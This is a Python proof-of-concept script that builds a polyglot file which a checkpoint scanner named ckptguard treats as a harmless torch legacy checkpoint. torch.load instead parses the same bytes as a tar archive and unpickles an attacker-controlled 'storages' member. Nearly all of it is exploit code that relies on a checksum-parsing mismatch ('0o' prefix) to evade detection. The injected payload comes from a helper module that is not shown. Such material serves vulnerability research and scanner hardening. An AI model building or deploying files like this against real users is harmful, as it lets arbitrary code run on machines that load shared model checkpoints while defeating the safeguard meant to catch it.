#!/usr/bin/python3
"""A file that is two things at once:
  * for ckptguard: a torch-legacy checkpoint (5 pickles: magic, 1001, {'pad': a bytes object}, {'w': FloatTensor},
    ['0']) followed by the raw storage record of '0' -- the scanner calls it safe;
  * for Python's tarfile (which torch.load tries FIRST on any non-zip file): a tar whose first
    header is the 512 bytes at offset 0 (its checksum field, spelled b"0o" + octal digits, lies
    inside the bytes object of pickle 3) and whose second member, 'storages', lies in the raw
    storage bytes. torch.load -> _legacy_load -> legacy_load(tar) -> pickle.load('storages') runs it.
ckptguard's DetectArchive/TarChecksumOk accepts only octal digits in the checksum field, so the file
is never seen as a tar; Python's tarfile.nti reads the field with int(s, 8), which accepts "0o".
Usage: tar_legacy_polyglot.py OUT MARKER"""
import sys, struct
from tarblocks import header as tar_header, payload

MAGIC = b'\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.'
PROTO = b'\x80\x02M\xe9\x03.'
def s(x): return b'X' + struct.pack('<I', len(x)) + x
def build(marker):
    pay = payload(marker)
    tail = tar_header(b'storages', len(pay)) + pay      # what Python's tarfile reads from offset 512 on
    tail += b'\0' * ((-len(tail)) % 512)   # tarfile needs the member's last block whole
    # pickle 3 (sys_info in torch's layout): {'pad': <bytes covering offsets 34..156>}
    p2_content_start = 21 + 3 + 8 + 2   # \x80\x02 } X len 'pad' C len
    L = 157 - p2_content_start
    def p3(n):
        return (b'\x80\x02}' + s(b'w') + b'ctorch._utils\n_rebuild_tensor_v2\n(' +
                b'(' + s(b'storage') + b'ctorch\nFloatStorage\n' + s(b'0') + s(b'cpu') + b'M' + struct.pack('<H', n) + b'tQ' +
                b'K\x00M' + struct.pack('<H', n) + b'\x85K\x01\x85\x89}tRs.')
    p4 = b'\x80\x02]' + s(b'0') + b'a.'
    head_len = p2_content_start + L + 2
    # pad p4 with BINPUT no-ops so that the 8-byte count sits at 323 (bytes 329.. of it are 0)
    COUNT_AT = 324                       # count bytes 324..331: offset 329 (devmajor) is a 0 byte
    data_start = COUNT_AT + 8
    n = (512 + len(tail) - data_start) // 4
    assert (512 + len(tail) - data_start) % 4 == 0
    pad = COUNT_AT - (head_len + len(p3(n)) + len(p4))
    assert pad >= 0 and pad != 1 and pad != 3, pad
    noops = b''
    if pad % 2: noops += b'r\0\0\0\0'; pad -= 5
    noops += b'q\0' * (pad // 2)
    p4p = b'\x80\x02]' + noops + s(b'0') + b'a.'
    out = bytearray(MAGIC + PROTO)
    out += b'\x80\x02}' + s(b'pad') + b'C' + bytes([L]) + b'\0' * L + b's.'
    out += p3(n) + p4p
    assert len(out) == COUNT_AT, len(out)
    out += struct.pack('<Q', n)
    out += b'\0' * (512 - len(out))
    # the tar fields of header 0 that fall inside pickle 3's bytes object (offsets 100..156)
    out[100:108] = b'0000644\0'; out[108:116] = b'0000000\0'; out[116:124] = b'0000000\0'
    out[124:136] = b'00000000000\0'; out[136:148] = b'00000000000\0'; out[156:157] = b'0'
    out[148:156] = b' ' * 8
    out[148:156] = b'0o%06o' % sum(out)
    out += tail
    return bytes(out)
if __name__ == '__main__':
    open(sys.argv[1], 'wb').write(build(sys.argv[2]))
